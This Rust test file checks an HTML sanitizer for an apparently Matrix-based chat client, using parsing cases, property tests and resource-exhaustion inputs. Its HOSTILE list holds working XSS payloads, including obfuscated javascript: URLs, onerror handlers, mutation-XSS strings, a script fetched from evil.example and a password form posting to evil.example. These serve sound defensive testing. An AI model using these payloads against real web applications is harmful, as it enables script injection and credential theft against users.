use proptest::prelude::*;

use super::*;
use crate::api::rich::{DEPTH, Mark, NODES, Rich, is_link, styled};

mod trees {
    use super::{Mark, Node};

    include!("trees.rs");
}

/// A tree in a form that is easy to compare: `strong(a)`.
fn show(nodes: &[Node]) -> String {
    let one = |node: &Node| match node {
        Node::Text(text) => format!("{text:?}"),
        Node::Part(mark, inner) => format!("{mark:?}({})", show(inner)),
    };
    nodes.iter().map(one).collect::<Vec<_>>().join(" ")
}

fn shown(html: &str) -> String {
    show(&from_html(html))
}

const DIALECT: Dialect<'_> =
    Dialect { mention: &|_| None, spoiler: Some("data-mx-spoiler"), schemes: &[], xhtml: false };

#[test]
fn what_people_and_programs_send() {
    for (html, expected) in [
        ("Hello <b>you</b> <i>there</i>", r#""Hello " Strong("you") " " Emphasis("there")"#),
        ("<strong> a </strong>b<em>c</em> d", r#"Strong("a") " b" Emphasis("c") " d""#),
        ("<del>a</del><s>b</s><strike>c</strike><u>d</u>", r#"Strike("a") Strike("b") Strike("c") Underline("d")"#),
        ("<p>one</p>\n<p>two</p>\n", r#"Paragraph("one") Paragraph("two")"#),
        ("<p>only <code>a  b</code></p>", r#""only " Code("a b")"#),
        ("a<br>b<br/>c<br />", r#""a\nb\nc""#),
        ("<div>a</div><div><br></div><div>b</div>", r#""a\n\nb""#),
        ("a<div>b</div>c", r#""a\nb\nc""#),
        (
            "<pre><code class=\"hljs language-rust\">fn a() {\n    b &lt; c\n}\n</code></pre>x",
            "Preformatted(Some(\"rust\"))(\"fn a() {\\n    b < c\\n}\") \"x\"",
        ),
        ("<pre>\n\nx<br>y</pre>", r#"Preformatted(None)("\nx\ny")"#),
        ("<blockquote>\n<p>q</p>\n<blockquote>r</blockquote></blockquote>s", r#"Quote(Paragraph("q") Quote("r")) "s""#),
        (
            "<ul>\n<li>a</li>\n<li>b<ol start=3><li>c</ol></ul>",
            r#"List(None)(Item("a") Item("b" List(Some(3))(Item("c"))))"#,
        ),
        ("<ul><li>a</li><ul><li>b</li></ul>c</ul>", r#"List(None)(Item("a" List(None)(Item("b")) "c"))"#),
        ("<li>a<li>b", r#"List(None)(Item("a") Item("b"))"#),
        ("<li>a</li>b", r#"List(None)(Item("a")) "b""#),
        ("<h2>T</h2>x<h3>U", r#"Heading(2)("T") "x" Heading(3)("U")"#),
        ("<b>a<blockquote>b</blockquote>c</b>", r#"Strong("a") Quote(Strong("b")) Strong("c")"#),
        ("<b>a<p>b</b>c</p>d", r#"Strong("a") Paragraph(Strong("b") "c") "d""#),
        ("<b><i>a</b>b</i>c", r#"Strong(Emphasis("a")) Emphasis("b") "c""#),
        ("<b><b>a</b>b</b>c", r#"Strong("ab") "c""#),
        (
            "<a href='https://x.y/?a&amp;b' title=t>x</a> <a href='javascript:x'>y</a>",
            r#"Link("https://x.y/?a&b")("x") " y""#,
        ),
        (
            "<span data-mx-spoiler>a</span><span data-mx-spoiler=\"b\">c</span>",
            "Spoiler(None)(\"a\") Spoiler(Some(\"b\"))(\"c\")",
        ),
        ("<font data-mx-color=\"#ff0000\" color=red>a</font><span data-mx-bg-color=#f00>b</span>", r#""ab""#),
        ("<span style='font-weight: bold; text-decoration:underline'>a</span>", r#"Strong(Underline("a"))"#),
        ("<p style='font-style:italic'>a</p><p>b</p>", r#"Paragraph(Emphasis("a")) Paragraph("b")"#),
        ("<table><tr><th>a<th>b</tr><tr><td>c</td><td>d</td></tr></table>e", r#""a b\nc d\ne""#),
        ("<img alt=logo><img data-mx-emoticon src='mxc://x/y' alt=':cat:'><img>", r#""[logo]:cat:""#),
        ("<details><summary>More</summary>of it</details>x", r#""More\nof it\nx""#),
        ("a<hr>b", r#""a\n---\nb""#),
        ("<mx-reply><blockquote>old</blockquote></mx-reply><b>new</b>", r#"Strong("new")"#),
        ("<title>t</title><style>p{}</style><script>x</script><!-- c -->seen", r#""seen""#),
        ("<blink>a</blink> <custom-tag b=c>d</custom-tag>", r#""a d""#),
        ("1 &lt; 2 &amp;&amp; x&nbsp;&#8364;&unknown; &", "\"1 < 2 && x\\u{a0}€&unknown; &\""),
        ("a < b and <3", r#""a < b and <3""#),
        ("<b></b><a href='https://x'></a><blockquote> </blockquote>", ""),
        ("<code><b>x</b></code>", r#"Code("x")"#),
        ("<p>a\u{0}b&#0;&#7;\u{ffff}</p>", "\"ab\u{fffd}\u{fffd}\""),
        ("<b>*not strong* _at all_</b>", r#"Strong("*not strong* _at all_")"#),
    ] {
        assert_eq!(shown(html), expected, "{html}");
    }
}

/// Whoever made these wanted a program to be run, or a reader to end.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(\"x\")</SCRIPT>\">",
    "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\" \u{1} javascript:alert(1)\">a</a>",
    "<a href=\"jav\tascript:alert(1)\">a</a>",
    "<a href=\"java\0script:alert(1)\">a</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">a</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">a</a>",
    "<a href=\"javascript&colon;alert(1)\">a</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
    "<a href=\"vbscript:msgbox(1)\">a</a>",
    "<a href='https://x.example/\" onmouseover=\"alert(1)'>a</a>",
    "<a href='https://x.example/`'>a</a>",
    "<a href='https://x.example/<script>'>a</a>",
    "<a href='https://x.example/\u{202e}gpj.exe'>a</a>",
    "<a href=https://x.example onclick=alert(1)>a</a>",
    "<a href='//evil.example'>a</a><a href='/x'>b</a><a href='file:///etc/passwd'>c</a>",
    "<iframe src='javascript:alert(1)'></iframe><object data=x></object><embed src=x>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=javascript:x'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<div style='background:url(javascript:alert(1));position:fixed;font-size:900px'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
    "<span data-mx-spoiler='\"><script>alert(1)</script>'>x</span>",
    "<pre><code class='language-\"><script>alert(1)</script>'>x</code></pre>",
    "<code class='language-x\" onload=\"alert(1)'>x</code>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ol start='99999999999999999999'><li>x</ol><ol start='-1\" x=\"'><li>y</ol>",
    "<mx-reply><mx-reply>x</mx-reply>y</mx-reply>z<mx-reply>",
    "\u{202e}txet desrever<b>\u{2066}x</b>",
    "<b\u{0}>x</b\u{0}>",
    "<<<<b>>>><</b",
    "<a href='https://x",
    "</b></p></ul></li></blockquote></pre></a>x",
    "<ul><blockquote><li><pre><ul></blockquote></li>x</ul>",
];

/// What a page would do with the HTML that we write: there is nothing in it but our own elements and attributes.
fn assert_harmless(html: &str, source: &str) {
    let names = [
        "strong",
        "em",
        "u",
        "del",
        "code",
        "p",
        "blockquote",
        "li",
        "ul",
        "ol",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "a",
        "span",
        "pre",
        "br",
    ];
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let end = rest[at..].find('>').unwrap_or_else(|| panic!("{source}: {html}")) + at;
        let tag = rest[at + 1..end].trim_start_matches('/');
        rest = &rest[end + 1..];
        let (name, attribute) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(names.contains(&name), "{source}: {html}");
        match attribute.split_once('=') {
            None => assert!(matches!(attribute, "" | "data-mx-spoiler"), "{source}: {html}"),
            Some((name, value)) => {
                let value = value.strip_prefix('"').and_then(|value| value.strip_suffix('"'));
                let value = value.unwrap_or_else(|| panic!("{source}: {html}"));
                assert!(!value.contains('"'), "{source}: {html}");
                match name {
                    "href" => assert!(is_link(&value.replace("&amp;", "&")), "{source}: {html}"),
                    "class" => assert!(value.strip_prefix("language-").is_some_and(is_language), "{source}: {html}"),
                    "start" => assert!(value.parse::<u32>().is_ok(), "{source}: {html}"),
                    "data-mx-spoiler" => {}
                    other => panic!("{other} in {source}: {html}"),
                }
            }
        }
    }
}

#[test]
fn hostile_html_does_nothing() {
    for source in HOSTILE {
        let nodes = from_html(source);
        let html = to_html(&nodes, &DIALECT);
        assert_harmless(&html, source);
        assert!(!styled(&nodes).text.contains(['\0', '\u{1}']), "{source}");
    }
    // Text that looks like a program is text.
    let html = to_html(&from_html("&lt;script&gt;alert(1)&lt;/script&gt;"), &DIALECT);
    assert_eq!(html, "&lt;script&gt;alert(1)&lt;/script&gt;");
}

fn depth(nodes: &[Node]) -> usize {
    let inside = nodes.iter().map(|node| match node {
        Node::Text(_) => 0,
        Node::Part(_, inner) => 1 + depth(inner),
    });
    inside.max().unwrap_or(0)
}

fn marks(nodes: &[Node]) -> usize {
    let inside = nodes.iter().map(|node| match node {
        Node::Text(_) => 0,
        Node::Part(_, inner) => 1 + marks(inner),
    });
    inside.sum()
}

/// Documents that cost a careless reader much more than they cost their author.
fn heavy(size: usize) -> Vec<(&'static str, String)> {
    let url = format!("<a href=\"https://x.example/{}\">", "y".repeat(1500));
    vec![
        ("div", "<div>".repeat(size) + "x" + &"</div>".repeat(size)),
        ("b", "<b>".repeat(size) + "x"),
        ("b and i", "<b><i>".repeat(size) + "x" + &"</b></i>".repeat(size)),
        ("misnested", "<b>a<i>b</b>c</i>".repeat(size)),
        ("formats around blocks", "<b><i><u><s>".repeat(10) + &"<p>x</p>".repeat(size)),
        ("link around blocks", url.clone() + &"<p>x".repeat(size)),
        ("links", url.repeat(size / 100)),
        ("quotes", "<blockquote>".repeat(size) + "x"),
        ("lists", "<ul><li>x".repeat(size)),
        ("items", "<li>x".repeat(size)),
        ("nested lists without items", "<ul>".repeat(size) + "x"),
        ("many", "<b>x</b> ".repeat(size)),
        ("open tags", "<a ".repeat(size)),
        ("open quotes", "<a href=\"".repeat(size)),
        ("lone", "<".repeat(size)),
        ("comments", "<!--".repeat(size)),
        ("scripts", "<script>".repeat(size)),
        ("closed scripts", "<script></script>".repeat(size)),
        ("replies", "<mx-reply>".repeat(size)),
        ("ends", "</b></ul></li></p>".repeat(size)),
        ("entities", "&".repeat(size) + &"&#".repeat(size) + &"&amp".repeat(size)),
        ("attributes", format!("<a {}>x", "a=b ".repeat(size))),
        ("a giant attribute", format!("<img alt='{}'>", "x ".repeat(size))),
        ("space", " \n".repeat(size)),
        ("a long word", "x".repeat(size)),
        ("pre", "<pre>".repeat(size) + "x"),
        ("styles", format!("<span style='{}'>x", "font-weight:bold;".repeat(size))),
    ]
}

#[test]
fn any_document_is_read_in_linear_time_and_small_space() {
    for (small, large) in heavy(2_000).iter().zip(heavy(20_000)) {
        let steps = |html: &str| read(html).steps;
        let (few, many) = (steps(&small.1), steps(&large.1));
        // Ten times the input may cost ten times the steps, and never more than some for each byte.
        assert!(many <= 12 * few.max(1000), "{}: {few} and {many}", large.0);
        assert!(many <= 120 * large.1.len(), "{}: {many} for {}", large.0, large.1.len());
        let nodes = from_html(&large.1);
        assert!(depth(&nodes) <= DEPTH, "{}: {}", large.0, depth(&nodes));
        assert!(marks(&nodes) <= NODES, "{}: {}", large.0, marks(&nodes));
        let html = to_html(&nodes, &DIALECT);
        assert!(html.len() <= 8 << 20, "{}: {}", large.0, html.len());
        assert_harmless(&html, large.0);
    }
    assert_eq!(shown(&heavy(100_000)[0].1), "\"x\"");
    let deep = "<blockquote><ul><li><b>".repeat(100_000) + "x" + &"</b></li></ul></blockquote>".repeat(100_000);
    assert_eq!(styled(&from_html(&deep)).text.chars().filter(char::is_ascii_alphabetic).collect::<String>(), "x");
}

/// What is lost on the way through HTML: nothing, but that of a text of one paragraph it is not said that it is one.
fn through_html(nodes: Vec<Node>) -> Vec<Node> {
    match nodes.as_slice() {
        [Node::Part(Mark::Paragraph, inner)] => inner.clone(),
        _ => nodes,
    }
}

proptest! {
    #[test]
    fn html_and_back(nodes in trees::tree()) {
        let html = to_html(&nodes, &DIALECT);
        assert_harmless(&html, "a tree");
        let back = Rich::new(from_html(&html)).map_or_else(|| from_html(&html), Rich::into_nodes);
        prop_assert_eq!(show(&back), show(&through_html(nodes)), "{}", html);
    }

    #[test]
    fn nothing_panics(html in ".{0,300}") {
        let nodes = from_html(&html);
        assert_harmless(&to_html(&nodes, &DIALECT), &html);
    }

    #[test]
    fn tag_soup_is_harmless_and_its_html_is_read_as_it_is(
        parts in proptest::collection::vec(
            "(</?(b|i|p|ul|ol|li|pre|code|a|blockquote|h1|div|br|span|table|td|script|mx-reply)>|<a href='https://x'>|[ a>'\"=&;/\n-])",
            0..60,
        ),
    ) {
        let nodes = from_html(&parts.concat());
        let html = to_html(&nodes, &DIALECT);
        assert_harmless(&html, &parts.concat());
        let again = to_html(&from_html(&html), &DIALECT);
        prop_assert_eq!(to_html(&from_html(&again), &DIALECT), again);
    }

    #[test]
    fn hostile_pieces_together_are_harmless(parts in proptest::collection::vec(proptest::sample::select(HOSTILE), 1..6)) {
        let source = parts.concat();
        assert_harmless(&to_html(&from_html(&source), &DIALECT), &source);
    }
}
